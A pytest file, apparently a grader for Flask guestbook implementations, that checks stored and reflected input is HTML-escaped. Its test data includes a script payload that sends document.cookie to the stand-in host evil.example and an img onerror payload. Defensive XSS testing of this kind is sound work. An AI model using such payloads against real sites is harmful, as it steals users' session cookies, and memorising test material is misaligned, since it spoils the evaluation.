import importlib
import os

import pytest

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))

PAYLOAD = "<script>fetch('//evil.example/?c='+document.cookie)</script>"


@pytest.fixture()
def client(tmp_path):
    mod.app.config["DATABASE"] = str(tmp_path / "gb.db")
    return mod.app.test_client()


def test_stored_message_is_escaped(client):
    client.post("/sign", data={"author": "mallory", "message": PAYLOAD})
    page = client.get("/").get_data(as_text=True)
    assert "<script>" not in page


def test_stored_author_is_escaped(client):
    client.post("/sign", data={"author": "<img src=x onerror=alert(1)>", "message": "hi"})
    page = client.get("/").get_data(as_text=True)
    assert "<img src=x" not in page


def test_author_query_parameter_is_not_reflected_raw(client):
    page = client.get("/", query_string={"author": PAYLOAD}).get_data(as_text=True)
    assert "<script>" not in page
